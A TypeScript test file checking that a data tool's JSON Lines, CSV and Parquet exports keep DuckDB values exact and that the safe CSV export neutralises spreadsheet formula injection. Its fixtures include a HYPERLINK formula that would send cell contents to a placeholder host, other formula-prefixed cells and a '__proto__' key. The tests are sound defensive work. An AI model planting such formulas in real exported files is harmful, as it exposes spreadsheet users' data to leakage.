import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import * as pq from "parquet-wasm";
import { beforeAll, describe, expect, it } from "vitest";
import { NativeEngine } from "../engine/native";
import { WasmNodeEngine } from "../test/wasm-node";
import type { DatasetRef, ListState } from "../types";
import { parquetChunks } from "./parquet";
import { columnTypes, exportSelect, selectionPageQueries, selectionPages, textChunks } from "./run";

/** A table of values JavaScript cannot hold as they come, in the page's own engine (DuckDB-WASM). */
const TYPED = [
  ["d", "12345678901234567.89::DECIMAL(38,2)"],
  ["b", "9007199254740993::BIGINT"],
  ["u", "18446744073709551615::UBIGINT"],
  ["dt", "DATE '2020-01-01'"],
  ["ts", "TIMESTAMP '2020-01-01 10:00:00.123456'"],
  ["tm", "TIME '10:11:12.5'"],
  ["uu", "uuid '3f2504e0-4f89-11d3-9a0c-0305e82c3301'"],
  ["n", "'nan'::DOUBLE"],
  ["i", "'inf'::DOUBLE"],
  ["ni", "'-inf'::DOUBLE"],
  ["bl", "'\\xAA'::BLOB"],
  ["p", "{'__proto__': 1, 'toString': 'x'}"],
] as const;
const FORMULAS = [
  '=HYPERLINK("http://x.example/"&A1,"click")',
  "@SUM(1)",
  "+1 555",
  "-12.5",
  "-1+2",
  "\tlead",
  "plain",
];

let wasm: WasmNodeEngine;
let native: NativeEngine;
const dir = mkdtempSync(join(tmpdir(), "fidelity-"));
const all: ListState = { search: "", sort: null };
const typed: DatasetRef = { table: "typed", layout: "generic", columns: TYPED.map(([c]) => c) };
const cells: DatasetRef = { table: "cells", layout: "generic", columns: ["f", "x"] };
const spans: DatasetRef = { table: "spans", layout: "generic", columns: ["name", "took"] };

beforeAll(async () => {
  [wasm, native] = await Promise.all([WasmNodeEngine.open(), NativeEngine.open()]);
  await wasm.query(
    `CREATE TABLE typed AS SELECT 0::BIGINT AS __row, ${TYPED.map(([c, e]) => `${e} AS ${c}`).join(", ")}`,
  );
  await wasm.query("CREATE TABLE cells (__row BIGINT, f VARCHAR, x DOUBLE)");
  for (const [i, f] of FORMULAS.entries()) await wasm.query("INSERT INTO cells VALUES ($1, $2, $3)", [i, f, -0.5 - i]);
  await wasm.query("CREATE TABLE spans AS SELECT 0::BIGINT AS __row, 'a' AS name, INTERVAL 3 DAY AS took");
});

async function text(ds: DatasetRef, format: "jsonl" | "csv" | "csv-raw") {
  const { select, columns, numberText } = exportSelect(ds, format, await columnTypes(wasm, ds.table));
  let out = "";
  for await (const chunk of textChunks(selectionPages(wasm, ds, all, select), format, columns, numberText))
    out += chunk;
  return out;
}

async function* arrowPages(ds: DatasetRef, select: string) {
  for await (const q of selectionPageQueries(wasm, ds, all, select)) yield wasm.ipc(q.sql, q.params);
}

async function parquet(ds: DatasetRef): Promise<string> {
  const { select, columns } = exportSelect(ds, "parquet", await columnTypes(wasm, ds.table));
  const parts: Uint8Array[] = [];
  for await (const chunk of parquetChunks(pq, arrowPages(ds, select), null, columns)) parts.push(chunk);
  const path = join(dir, `${ds.table}.parquet`);
  writeFileSync(path, Buffer.concat(parts));
  return path;
}

describe("exports write values exactly as DuckDB holds them", () => {
  it("JSON Lines: decimals and big integers digit for digit, dates and times as text, no null for NaN", async () => {
    expect(await text(typed, "jsonl")).toBe(
      '{"d":12345678901234567.89,"b":9007199254740993,"u":18446744073709551615,"dt":"2020-01-01",' +
        '"ts":"2020-01-01 10:00:00.123456","tm":"10:11:12.5","uu":"3f2504e0-4f89-11d3-9a0c-0305e82c3301",' +
        '"n":"NaN","i":"Infinity","ni":"-Infinity","bl":"\\\\xAA","p":{"__proto__":1,"toString":"x"}}\n',
    );
  });

  it("CSV: each value as DuckDB's own text, nested ones as JSON", async () => {
    const [header, line] = (await text(typed, "csv")).split("\r\n");
    expect(header).toBe(TYPED.map(([c]) => c).join(","));
    const [cast] = await native.rows(
      `SELECT ${TYPED.slice(0, -1)
        .map(([c, e]) => `CAST(${e} AS VARCHAR) AS ${c}`)
        .join(", ")}`,
    );
    expect(line).toBe(
      [...TYPED.slice(0, -1).map(([c]) => String(cast![c])), '"{""__proto__"":1,""toString"":""x""}"'].join(","),
    );
  });

  it("CSV: cells a spreadsheet would run get a leading quote; numbers stay numbers; the raw choice writes them as they are", async () => {
    const safe = (await text(cells, "csv")).split("\r\n").slice(1, -1);
    expect(safe).toEqual([
      `"'=HYPERLINK(""http://x.example/""&A1,""click"")",-0.5`,
      "'@SUM(1),-1.5",
      "'+1 555,-2.5",
      "-12.5,-3.5",
      "'-1+2,-4.5",
      "'\tlead,-5.5",
      "plain,-6.5",
    ]);
    const raw = (await text(cells, "csv-raw")).split("\r\n").slice(1, -1);
    expect(raw[0]).toBe(`"=HYPERLINK(""http://x.example/""&A1,""click"")",-0.5`);
    expect(raw.slice(1, 3)).toEqual(["@SUM(1),-1.5", "+1 555,-2.5"]);
  });

  it("Parquet: each column in its own type, read back equal", async () => {
    const path = await parquet(typed);
    const back = await native.query(`SELECT * FROM read_parquet('${path}')`);
    expect(back.columns.map((c) => [c.name, c.type])).toEqual([
      ["d", "DECIMAL(38,2)"],
      ["b", "BIGINT"],
      ["u", "UBIGINT"],
      ["dt", "DATE"],
      ["ts", "TIMESTAMP"],
      ["tm", "TIME"],
      ["uu", "VARCHAR"],
      ["n", "DOUBLE"],
      ["i", "DOUBLE"],
      ["ni", "DOUBLE"],
      ["bl", "BLOB"],
      ["p", 'STRUCT("__proto__" INTEGER, "toString" VARCHAR)'],
    ]);
    expect(back.rows).toEqual((await wasm.query(`SELECT * EXCLUDE (__row) FROM typed`)).rows);
  });

  it("Parquet: a type it cannot hold ends the export with its name, not a wait", async () => {
    await expect(parquet(spans)).rejects.toThrow("Parquet cannot hold the intervals of column “took”");
  });
});
